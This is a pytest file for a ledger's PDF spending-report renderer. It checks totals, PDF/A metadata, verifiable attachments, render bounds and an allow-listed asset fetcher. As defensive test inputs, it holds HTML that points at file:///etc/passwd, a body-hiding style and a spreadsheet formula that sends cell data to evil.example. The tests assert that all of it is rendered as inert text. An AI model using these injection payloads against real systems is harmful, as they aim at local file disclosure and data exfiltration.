"""The public spending report rendered from a real ledger, read back with
poppler: its totals are the balance endpoint's, it declares PDF/A-3B, its attachments verify
with `fundtrail verify`, creator text stays inert, and its bounds hold."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import uuid
from dataclasses import dataclass, replace
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from services.cli import main
from services.ledger import queries
from services.ledger.adapters.journal import stream_leaves
from services.ledger.reports.assets import asset_url, read_asset
from services.ledger.reports.document import page_footers
from services.ledger.reports.pdf import AssetRefused, PackagedAssetFetcher
from services.ledger.reports.rendering import (
    RenderedReport,
    ReportRenderer,
    ReportSource,
    ReportTimedOut,
)
from shared.money import format_amount
from shared.wording import words_for
from tests.factories import bearer
from tests.integration.ledger.ledger_support import Ledger, pdf_bytes, pledge_event, post_expense
from tests.pdf_support import pdf_text as pdf_text_of

IMG = '<img src="file:///etc/passwd">'
LINK = '<link rel=attachment href="file:///etc/passwd">'
STYLE = "<style>body{display:none}</style>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ATTACHMENTS = ["checkpoint.txt", "export.jsonl", "key.txt"]
TOTALS = ("raised", "refunded", "spent", "available")


@dataclass
class Built:
    source: ReportSource
    balance: dict[str, Any]
    export: bytes


@pytest.fixture
def built(ledger: Ledger) -> Built:
    """A campaign with contributions, a partial refund, expenses with receipts (one carrying
    hostile text) and a reversal, and the report source at its latest checkpoint."""
    campaign_id, _, token = ledger.open_campaign()
    pledges = [uuid.uuid4() for _ in range(3)]
    for pledge, amount in zip(pledges, (40_000, 25_000, 12_550), strict=True):
        ledger.collect(campaign_id, amount, pledge_id=pledge)
    refund = pledge_event(
        "pledge.refunded", campaign_id, 5_000, pledge_id=pledges[1],
        collected_amount=25_000, refunded_total=5_000, reason="asked",
    )  # fmt: skip
    assert ledger.deliver(refund).status == "handled"
    assert post_expense(ledger, campaign_id, token, amount="12000").status_code == 201
    hostile = post_expense(
        ledger, campaign_id, token, amount="3050", category="art",
        description=f"{IMG} {LINK} {STYLE}", vendor=FORMULA,
    )  # fmt: skip
    assert hostile.status_code == 201, hostile.json
    mistake = post_expense(
        ledger, campaign_id, token, amount="999", receipt=pdf_bytes(), filename="a.pdf"
    )
    reversal = ledger.client.post(
        f"/api/v1/campaigns/{campaign_id}/entries/{mistake.json['seq']}/reverse",
        json={"reason": "entered twice"},
        headers=bearer(token),
    )
    assert reversal.status_code == 201
    dependencies = ledger.app.extensions["fundtrail"]
    with dependencies.uow_factory() as uow:
        campaign = queries.public_campaign(uow, campaign_id)
        checkpoint = queries.latest_checkpoint(uow, campaign_id)
    assert checkpoint.tree_size == 8
    base = f"http://ledger.test/api/v1/campaigns/{campaign_id}"
    source = ReportSource(
        campaign={**campaign, "title": f"Board game {IMG} {STYLE} {FORMULA}"},
        checkpoint=checkpoint,
        leaves=list(stream_leaves(dependencies.engine, campaign_id, checkpoint.tree_size)),
        verifier_key=dependencies.log_signing.signer.vkey,
        checkpoint_url=f"{base}/checkpoints/{checkpoint.tree_size}",
        export_url=f"{base}/export.jsonl?tree_size={checkpoint.tree_size}",
    )
    api = f"/api/v1/campaigns/{campaign_id}"
    balance = ledger.client.get(f"{api}/balance").json
    export = ledger.client.get(f"{api}/export.jsonl?tree_size={checkpoint.tree_size}").data
    return Built(source, balance, export)


def renderer(**bounds: Any) -> ReportRenderer:
    settings = {"timeout": 120.0, "memory_limit": 2 * 1024**3, "max_table_rows": 1_000}
    return ReportRenderer(**{**settings, **bounds})


def poppler(*args: str | Path) -> str:
    return subprocess.run(list(map(str, args)), check=True, capture_output=True, text=True).stdout


def pdf_text(pdf: Path) -> str:
    return pdf_text_of(pdf.read_bytes())


def squash(text: str) -> str:
    """``text`` without whitespace: a line may wrap anywhere in a table cell."""
    return re.sub(r"\s+", "", text)


def save(report: RenderedReport, folder: Path) -> Path:
    folder.mkdir(exist_ok=True)
    path = folder / "report.pdf"
    path.write_bytes(report.pdf)
    return path


def attachment_names(pdf: Path) -> list[str]:
    listing = poppler("pdfdetach", "-list", pdf).splitlines()
    return sorted(re.sub(r"^\d+: ", "", line) for line in listing[1:])


def test_the_pdf_shows_the_balance_declares_pdfa_and_carries_its_own_proof(
    built: Built, tmp_path: Path
) -> None:
    report = renderer().render(built.source)
    pdf = save(report, tmp_path / "out")
    text = pdf_text(pdf)

    balance = built.balance
    assert (balance["raised"], balance["refunded"], balance["spent"]) == (77_550, 5_000, 15_050)
    for name in TOTALS:
        shown = format_amount(balance[name], "EUR")
        assert shown in text, name
        assert f"<dd>{shown}</dd>" in report.html, name
    assert report.balance.raised == balance["raised"] and report.balance.spent == balance["spent"]
    assert report.balance.available == balance["available"] and report.balance.shortfall == 0
    assert report.backers_count == 3
    assert "<dt>Backers</dt><dd>3</dd>" in report.html
    for line in balance["by_category"]:
        assert format_amount(line["spent"], "EUR") in text
    assert re.search(r"page 1 of \d+", text)
    assert squash("fundtrail verify export.jsonl --checkpoint checkpoint.txt --key key.txt") in (
        squash(text)
    )
    assert built.source.checkpoint.note.splitlines()[0] in text

    meta = poppler("pdfinfo", "-meta", pdf)
    assert 'pdfaid:part="3"' in meta and 'pdfaid:conformance="B"' in meta
    made_at = built.source.checkpoint.published_at.astimezone(UTC)
    assert f"<xmp:CreateDate>{made_at:%Y-%m-%dT%H:%M:%SZ}</xmp:CreateDate>" in meta

    assert attachment_names(pdf) == ATTACHMENTS
    poppler("pdfdetach", "-saveall", "-o", tmp_path / "out", pdf)
    out = tmp_path / "out"
    assert (out / "export.jsonl").read_bytes() == built.export
    assert (out / "checkpoint.txt").read_text() == built.source.checkpoint.note
    result = CliRunner().invoke(
        main,
        ["verify", str(out / "export.jsonl"), "--checkpoint", str(out / "checkpoint.txt"),
         "--key", str(out / "key.txt")],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert result.output.endswith("verified\n")


def test_the_html_page_shows_the_same_figures_as_the_pdf(built: Built) -> None:
    rendering = renderer()
    html = rendering.render_html(built.source)
    assert html == rendering.render(built.source).html
    for name in TOTALS:
        assert f"<dd>{format_amount(built.balance[name], 'EUR')}</dd>" in html
    assert "<style>" in html and "fundtrail-report:" not in html  # self-contained page
    assert str(built.source.checkpoint.tree_size) in html


def test_creator_text_comes_out_as_inert_text(built: Built, tmp_path: Path) -> None:
    report = renderer().render(built.source)
    pdf = save(report, tmp_path / "out")
    text = pdf_text(pdf)

    assert all(squash(hostile) in squash(text) for hostile in (IMG, LINK, STYLE, FORMULA))
    assert "root:" not in text  # /etc/passwd was never read
    assert attachment_names(pdf) == ATTACHMENTS  # the <link rel=attachment> attached nothing
    html = report.html
    assert "<img" not in html and "<link rel=attachment" not in html
    # The one <style> element is the package's stylesheet and its page footers in the reader's
    # language, nothing a creator wrote.
    assert html.count("<style>") == 1
    style = html.split("<style>")[1].split("</style>")[0]
    assert style == read_asset("report.css").decode() + "\n" + str(page_footers(words_for("en")))
    assert "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in html
    assert "&lt;style&gt;body{display:none}&lt;/style&gt;" in html
    # No backer identity anywhere: the pledge ids are in the attached export only.
    for line in built.export.splitlines():
        pledge_id = re.search(rb'"pledge_id":"([0-9a-f-]+)"', line)
        if pledge_id:
            assert pledge_id.group(1).decode() not in html + text


def test_rendering_twice_gives_the_same_bytes(built: Built) -> None:
    rendering = renderer()
    first, second = rendering.render(built.source), rendering.render(built.source)
    assert first.pdf == second.pdf
    assert first.html == second.html and first.balance == second.balance


def test_a_bounded_table_says_so_and_still_attaches_every_leaf(
    built: Built, tmp_path: Path
) -> None:
    report = renderer(max_table_rows=2).render(built.source)
    pdf = save(report, tmp_path / "out")
    text = pdf_text(pdf)

    assert "This table shows the first 2 of 6 rows." in text
    assert "This index shows the first 2 of 3 receipts" in text
    assert squash(built.source.export_url) in squash(text)
    poppler("pdfdetach", "-saveall", "-o", tmp_path / "out", pdf)
    assert (tmp_path / "out" / "export.jsonl").read_bytes() == built.export
    assert len(built.export.splitlines()) == 8


def test_a_render_past_its_timeout_fails_cleanly(built: Built) -> None:
    with pytest.raises(ReportTimedOut, match=r"longer than 0.2 s"):
        renderer(timeout=0.2).render(built.source)


def test_the_warm_render_worker_is_replaced_when_killed_or_out_of_time(built: Built) -> None:
    """One worker is kept warm and reused; killed from outside, or stopped at its time bound,
    it is replaced, and the next report renders the same bytes."""
    bounded = renderer(max_renders=1)
    try:
        first = bounded.render(built.source)
        (worker,) = bounded._idle
        assert bounded.render(built.source).pdf == first.pdf
        assert bounded._idle == [worker] and worker.jobs == 2
        os.kill(worker.process.pid, signal.SIGKILL)
        worker.process.wait()
        assert bounded.render(built.source).pdf == first.pdf
        (replacement,) = bounded._idle
        assert replacement is not worker and replacement.process.returncode is None
        bounded.timeout = 0.05
        with pytest.raises(ReportTimedOut):
            bounded.render(built.source)
        assert replacement.process.returncode == -signal.SIGKILL
        bounded.timeout = 120.0
        assert bounded.render(built.source).pdf == first.pdf
        assert bounded._idle[0] is not replacement
    finally:
        bounded.close()
    assert bounded._idle == []


def test_a_source_whose_leaves_are_not_the_checkpoints_is_refused(built: Built) -> None:
    source = replace(built.source, leaves=list(built.source.leaves)[:-1])
    with pytest.raises(ValueError, match="leaves for a checkpoint"):
        renderer().render_html(source)


# --- the fetcher, behind the escaping ------------------------------------------------------------


def test_the_fetcher_serves_only_the_packaged_assets() -> None:
    fetcher = PackagedAssetFetcher()
    css = fetcher.fetch(asset_url("report.css"))
    assert css.content_type == "text/css" and b"@page" in css.read()
    for url in (
        "file:///etc/passwd",
        "http://127.0.0.1:9/x.css",
        "https://example.com/x.css",
        "data:text/css,body{display:none}",
        asset_url("../rendering.py"),
        asset_url("report.html.j2"),
    ):
        with pytest.raises(AssetRefused):
            fetcher.fetch(url)
    assert len(fetcher.refused) == 6


def test_raw_html_asking_for_files_gets_nothing_fetched_or_attached(tmp_path: Path) -> None:
    """Even markup that escaping would never let through loads and attaches nothing: the
    child process renders it with the allow-listed fetcher, which names what it refused."""
    job = tmp_path / "job"
    (job / "attachments").mkdir(parents=True)
    (job / "attachments" / "0").write_bytes(b"k\n")
    (job / "report.html").write_text(
        f'<html><head>{LINK}<link rel="stylesheet" href="file:///etc/passwd"></head><body>'
        f'{IMG}<img src="http://127.0.0.1:9/x.png"><a rel="attachment" href="file:///etc/passwd">'
        "a</a><p>safe</p></body></html>"
    )
    (job / "job.json").write_text(json.dumps({
        "made_at": "2026-01-01T00:00:00+00:00",
        "attachments": [{"name": "key.txt", "description": "key", "file": "0"}],
    }))  # fmt: skip
    child = subprocess.run(
        [sys.executable, "-m", "services.ledger.reports.child", str(job), str(2 * 1024**3)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert child.returncode == 0, child.stderr
    pdf = job / "report.pdf"
    assert attachment_names(pdf) == ["key.txt"]
    assert "safe" in pdf_text(pdf) and "root:" not in pdf_text(pdf)
    refused = re.findall(r"refused to fetch '([^']+)'", child.stderr)
    assert sorted(refused) == sorted(["file:///etc/passwd"] * 4 + ["http://127.0.0.1:9/x.png"])
